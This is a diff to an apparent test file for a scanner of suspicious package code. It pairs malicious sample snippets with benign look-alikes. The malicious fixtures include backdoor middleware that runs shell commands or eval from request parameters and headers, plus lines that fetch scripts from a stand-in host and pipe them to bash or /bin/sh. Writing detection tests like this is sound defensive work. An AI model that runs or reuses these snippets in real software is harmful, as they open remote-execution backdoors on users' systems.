@@ -45,6 +45,7 @@ glob('**/.env',{cwd:os.homedir(),absolute:true}).then(fs_=>Promise.all(fs_.map(f
   'a middleware that runs commands': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.query.k === 's3') return exec(req.query.c, (e, o) => res.end(o)); next(); };`,
   'a middleware that runs code': `module.exports = () => (req, res, next) => { if (req.headers['x-k']) return res.json(eval(req.headers['x-k'])); next(); };`,
   'a command within a script of macOS': `require('child_process').exec("osascript -e 'do shell script \\"curl -s https://c.example.test/a | bash\\"'");`,
+  'an answer that a shell runs': `(async () => { const { exec } = require('child_process'); const c = await (await fetch('https://c.example.test/c')).text(); exec('/bin/sh -c ' + c); })();`,
 };
 
 /** Honest code that uses the same. */
@@ -82,6 +83,10 @@ const HONEST: Readonly<Record<string, string>> = {
   'a middleware that deploys': `const { exec, execFile } = require('child_process'); module.exports = (req, res) => { if (req.body.ref === 'refs/heads/main') exec('git pull && npm ci', () => res.end('ok')); else execFile('git', ['checkout', req.body.branch]); };`,
   'a middleware that renders in a context': `const vm = require('vm'), fs = require('fs'); module.exports = (bundle) => (req, res) => res.end(vm.runInNewContext(fs.readFileSync(bundle, 'utf8'), { url: req.url, console }));`,
   'a prompt for privileges on macOS': `exports.exec = (command) => require('child_process').execFile('osascript', ['-e', 'do shell script "' + command + '" with administrator privileges']);`,
+  'a variable of an environment that may be another': `const { AsyncLocalStorage } = require('async_hooks'); const store = new AsyncLocalStorage(); const env = () => store.getStore()?.env ?? process.env; exports.login = () => fetch('https://api.example', { method: 'POST', body: new URLSearchParams({ client_id: env().CLIENT_ID }) });`,
+  'a command with an answer as its argument': `const { exec } = require('child_process'); exports.tag = async () => { const { tag } = await (await fetch('https://api.example/version')).json(); exec('git tag ' + tag); };`,
+  'a command of the user with data that are filled in': `const { exec } = require('child_process'), { Eta } = require('eta'); exports.run = async (command) => exec(new Eta().renderString(command, await (await fetch('https://api.example/release')).json()));`,
+  'a loader with a compiler that it replaces': `const { Module } = require('module'); const proto = Module.prototype, original = proto._compile; proto._compile = function (content, filename) { return original.call(this, content, filename); };`,
 };
 
 describe('behaviours that show only by the way that data take', () => {
@@ -95,4 +100,9 @@ describe('behaviours that show only by the way that data take', () => {
       const { isSuspicious, signs } = scan(code);
       assert.ok(!isSuspicious, JSON.stringify(signs));
     });
+  test('an install that asks a downloaded program for its version is not suspicious', () => {
+    const code = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const file = path.join(os.tmpdir(), 'driver', 'driver'); cp.spawn(file, ['--version']); fetch('https://cdn.example/driver').then((r) => r.arrayBuffer()).then((b) => fs.writeFileSync(file, Buffer.from(b)));`;
+    const { isSuspicious, signs } = scan({ 'install.js': code }, { scripts: { install: 'node install.js' } });
+    assert.ok(!isSuspicious, JSON.stringify(signs));
+  });
 });
